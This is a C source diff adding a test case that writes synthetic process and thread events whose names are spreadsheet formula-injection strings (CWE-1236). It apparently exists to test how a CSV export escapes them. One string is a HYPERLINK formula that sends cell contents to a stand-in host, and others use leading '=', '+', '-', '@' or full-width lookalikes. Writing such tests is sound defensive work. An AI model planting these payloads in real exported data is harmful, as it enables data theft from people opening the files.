@@ -1222,6 +1222,65 @@ static void case_utf16(struct w *w, const char *arg)
     buf_end(w);
 }
 
+/* UTF-8 string s as UTF-16LE, with its zero unit (code points below
+ * U+10000: the formula case's strings). */
+static void pu16z_utf8(struct pl *p, const char *str)
+{
+    const unsigned char *s = (const unsigned char *)str;
+    while (*s) {
+        unsigned cp = *s++;
+        if (cp >= 0xE0) {
+            cp = (cp & 0x0Fu) << 12 | (unsigned)(s[0] & 0x3Fu) << 6 | (s[1] & 0x3Fu);
+            s += 2;
+        } else if (cp >= 0xC0) {
+            cp = (cp & 0x1Fu) << 6 | (s[0] & 0x3Fu);
+            s += 1;
+        }
+        p16(p, cp);
+    }
+    p16(p, 0);
+}
+
+/* Strings a spreadsheet takes for formulas (CWE-1236): a process for each
+ * string below, its image, command line and thread's name all that
+ * string, and its thread run 10 us; 1 CPU. "fx PID,TID" lines give the
+ * index of each string's process and thread (the test holds the strings
+ * and what CSV makes of them). */
+static const char *const formula_strings[] = {
+    "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1+2", "-3+4", "@SUM(1)", "\tTab",
+    "\rCr", "\xEF\xBC\x9D" "1", "\xEF\xBC\xA0" "x", "\xEF\xBC\x8B" "2", "\xEF\xBC\x8D" "3",
+    "a=b", " sp", "plain", "\xEF\xBC\xA1" "A",
+};
+static void case_formula(struct w *w, const char *arg)
+{
+    (void)arg;
+    w->cpus = 1;
+    w_start(w, 4096);
+    buf_next(w, 0);
+    int64_t t = w->t0 + 100;
+    size_t n = sizeof formula_strings / sizeof formula_strings[0];
+    for (size_t i = 0; i < n; i++) {
+        uint32_t pid = 100 + 4 * (uint32_t)i, tid = 1000 + 4 * (uint32_t)i;
+        struct pl cmd, p;
+        cmd.n = 0;
+        pu16z_utf8(&cmd, formula_strings[i]);
+        process_v4(&p, 0xFFFF800010000000ull + (uint64_t)i * 0x1000, pid, 4, formula_strings[i],
+                   cmd.b, cmd.n);
+        ev_perfinfo(w, HOOK_PROCESS_DCSTART, 4, t++, p.b, p.n);
+        thread_v3(&p, pid, tid, cmd.b, cmd.n);
+        ev_system(w, HOOK_THREAD_DCSTART, 3, tid, pid, t++, p.b, p.n);
+        fprintf(w->exp, "fx %u,%u\n", pid, tid);
+    }
+    t += 1000;
+    for (size_t i = 0; i < n; i++) {
+        uint32_t tid = 1000 + 4 * (uint32_t)i;
+        ev_cswitch(w, t, 0, tid);
+        ev_cswitch(w, t + 100, tid, 0);
+        t += 1000;
+    }
+    buf_end(w);
+}
+
 /* The "ev" line of an event without a HookId: its CPU, time, buffer
  * offset, offset in the buffer and size. */
 static void exp_ev(struct w *w, unsigned cpu, int64_t ts, uint64_t at, uint32_t off,
@@ -1490,6 +1549,7 @@ static const struct {
     { "tidreuse", case_tidreuse },
     { "tidmove", case_tidmove },
     { "utf16", case_utf16 },
+    { "formula", case_formula },
     { "manifest", case_manifest },
     { "learnt", case_learnt },
     { "lists", case_lists },
